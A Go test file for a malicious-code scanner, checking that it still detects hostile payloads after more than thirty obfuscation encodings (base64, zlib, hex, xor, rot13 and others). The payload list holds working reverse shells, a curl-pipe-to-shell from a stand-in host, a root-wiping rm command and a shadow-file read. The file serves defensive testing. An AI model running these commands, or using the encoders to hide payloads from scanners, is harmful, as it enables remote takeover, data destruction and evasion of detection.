package scan

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// payloads are attacks without any context; every encoder below hides them.
var payloads = []string{
	`import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")`,
	`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`,
	`curl -fsSL http://evil.example/install.sh | sh`,
	`rm -rf --no-preserve-root /`,
	`cat /proc/1/root/etc/shadow`,
}

func b64(text []byte) string { return base64.StdEncoding.EncodeToString(text) }

func zlibbed(text []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(text)
	_ = w.Close()
	return out.Bytes()
}

func gzipped(text []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(text)
	_ = w.Close()
	return out.Bytes()
}

func mapped(text, format, separator string) string {
	var parts []string
	for _, c := range []byte(text) {
		parts = append(parts, fmt.Sprintf(format, c))
	}
	return strings.Join(parts, separator)
}

func backwards(text string) string {
	turned := []byte(text)
	for i, j := 0, len(turned)-1; i < j; i, j = i+1, j-1 {
		turned[i], turned[j] = turned[j], turned[i]
	}
	return string(turned)
}

func wrapped(text string, width int) string {
	var lines []string
	for ; len(text) > width; text = text[width:] {
		lines = append(lines, text[:width])
	}
	return strings.Join(append(lines, text), "\n")
}

func python85(text []byte) string {
	padded := append(bytes.Clone(text), make([]byte, (4-len(text)%4)%4)...)
	encoded := make([]byte, ascii85.MaxEncodedLen(len(padded)))
	encoded = encoded[:ascii85.Encode(encoded, padded)]
	encoded = bytes.ReplaceAll(encoded, []byte("z"), []byte("!!!!!"))
	for i, c := range encoded {
		encoded[i] = base85Letters[c-'!']
	}
	return string(encoded)
}

func exored(text string, key byte) []byte { return xor([]byte(text), key) }

func wide(text string) []byte {
	var out []byte
	for _, c := range []byte(text) {
		out = append(out, c, 0)
	}
	return out
}

var encoders = map[string]func(string) string{
	"base64":          func(p string) string { return `x = "` + b64([]byte(p)) + `"` },
	"base64/base64":   func(p string) string { return `x = "` + b64([]byte(b64([]byte(p)))) + `"` },
	"base64 x 3":      func(p string) string { return b64([]byte(b64([]byte(b64([]byte(p)))))) },
	"base64 url":      func(p string) string { return base64.URLEncoding.EncodeToString([]byte(p + "\n\xff\xfe?>")) },
	"base64 unpadded": func(p string) string { return `f('` + base64.RawStdEncoding.EncodeToString([]byte(p)) + `')` },
	"base64 wrapped":  func(p string) string { return "cat <<EOF\n" + wrapped(b64([]byte(p+p+p)), 76) + "\nEOF\n" },
	"base64 in pieces": func(p string) string {
		return `x = ("` + strings.ReplaceAll(wrapped(b64([]byte(p)), 10), "\n", "\"\n  \"") + `")`
	},
	"base64 added up": func(p string) string {
		return `x = "` + strings.ReplaceAll(wrapped(b64([]byte(p)), 9), "\n", `" + "`) + `"`
	},
	"base64 listed": func(p string) string {
		return `x = "".join(["` + strings.ReplaceAll(wrapped(b64([]byte(p)), 7), "\n", `", "`) + `"])`
	},
	"base64 reversed": func(p string) string { return `x = "` + backwards(b64([]byte(p))) + `"[::-1]` },
	"base64 of two":   func(p string) string { return b64(wide(p)) },
	"zlib in base64":  func(p string) string { return `z = b'` + b64(zlibbed([]byte(p))) + `'` },
	"gzip in base64":  func(p string) string { return `z = b'` + b64(gzipped([]byte(p))) + `'` },
	"zlib twice":      func(p string) string { return b64(zlibbed([]byte(b64(zlibbed([]byte(p)))))) },
	"zlib in hex":     func(p string) string { return `bytes.fromhex("` + hex.EncodeToString(zlibbed([]byte(p))) + `")` },
	"zlib in escapes": func(p string) string { return `b"` + mapped(string(zlibbed([]byte(p))), `\x%02x`, "") + `"` },
	"hex":             func(p string) string { return `bytes.fromhex("` + hex.EncodeToString([]byte(p)) + `")` },
	"hex number":      func(p string) string { return `n = 0x` + hex.EncodeToString([]byte(p)) },
	"escapes":         func(p string) string { return `s = "` + mapped(p, `\x%02x`, "") + `"` },
	"octal":           func(p string) string { return `printf '` + mapped(p, `\%03o`, "") + `'` },
	"unicode":         func(p string) string { return `s = "` + mapped(p, `\u%04x`, "") + `"` },
	"unicode braces":  func(p string) string { return `s = "` + mapped(p, `\u{%x}`, "") + `"` },
	"percent":         func(p string) string { return `s = unquote("` + mapped(p, `%%%02X`, "") + `")` },
	"codes":           func(p string) string { return `bytes([` + mapped(p, `%d`, ", ") + `])` },
	"codes in hex":    func(p string) string { return `bytes([` + mapped(p, `0x%x`, ",") + `])` },
	"chr":             func(p string) string { return mapped(p, `chr(%d)`, "+") },
	"fromCharCode":    func(p string) string { return `String.fromCharCode(` + mapped(p, `%d`, ",") + `)` },
	"reversed":        func(p string) string { return `s = '` + backwards(p) + `'[::-1]` },
	"rot13": func(p string) string {
		return `codecs.decode('` + string((&decoding{unit: &unit{signals: map[string]bool{"rot13": true}}}).rot13([]byte(p))) + `', 'rot13')`
	},
	"base32":        func(p string) string { return `b32decode("` + base32.StdEncoding.EncodeToString([]byte(p)) + `")` },
	"base85":        func(p string) string { return `b85decode("` + python85([]byte(p)) + `")` },
	"xor in base64": func(p string) string { return `bytes(b ^ 0x5a for b in b64decode("` + b64(exored(p, 0x5a)) + `"))` },
	"xor in codes": func(p string) string {
		return `bytes(b ^ 77 for b in [` + mapped(string(exored(p, 77)), `%d`, ",") + `])`
	},
	"added up by chars": func(p string) string { return `s = ` + mapped(strings.ReplaceAll(p, `"`, `'`), `"%c"`, " + ") },
}

// Whatever runs it, the attack is found in its encoding.
func TestEveryEncodingIsSeenThrough(t *testing.T) {
	for name, encode := range encoders {
		for number, payload := range payloads {
			report := judge(t, "python", Named{Path: "main.py", Data: []byte(encode(payload))})
			if report.Verdict != Malicious {
				t.Errorf("%s of %d: %s %d %v\n%.200s", name, number, report.Verdict, report.Score, ruleNames(report), encode(payload))
			}
		}
	}
}

// The same encodings of ordinary text are nothing.
func TestEncodedOrdinaryTextIsClean(t *testing.T) {
	for name, encode := range encoders {
		report := judge(t, "python", Named{Path: "main.py", Data: []byte(encode("The quick brown fox jumps over the lazy dog, again and again."))})
		if report.Score >= 50 || report.Verdict == Incomplete {
			t.Errorf("%s: %s %d %v", name, report.Verdict, report.Score, ruleNames(report))
		}
	}
}

func TestLayersAreNamed(t *testing.T) {
	report := judge(t, "python", Named{Path: "a.py", Data: []byte(encoders["zlib in base64"](payloads[1]))})
	if len(report.Matches) == 0 || report.Matches[0].Layer != "base64/zlib" || report.Matches[0].File != "a.py" || report.Matches[0].Technique == "" {
		t.Errorf("%+v", report.Matches)
	}
}

func TestDepthIsBounded(t *testing.T) {
	text := []byte(payloads[1])
	for range 12 {
		text = []byte(b64(text))
	}
	report := judge(t, "python", Named{Path: "a.py", Data: text})
	if report.Verdict != Incomplete {
		t.Errorf("%s %v", report.Verdict, ruleNames(report))
	}
}

func TestTextInTwoBytes(t *testing.T) {
	report := judge(t, "", Named{Path: "a.ps1", Data: append([]byte{0xff, 0xfe}, wide(payloads[1])...)})
	if report.Verdict != Malicious {
		t.Errorf("%s %v", report.Verdict, ruleNames(report))
	}
}
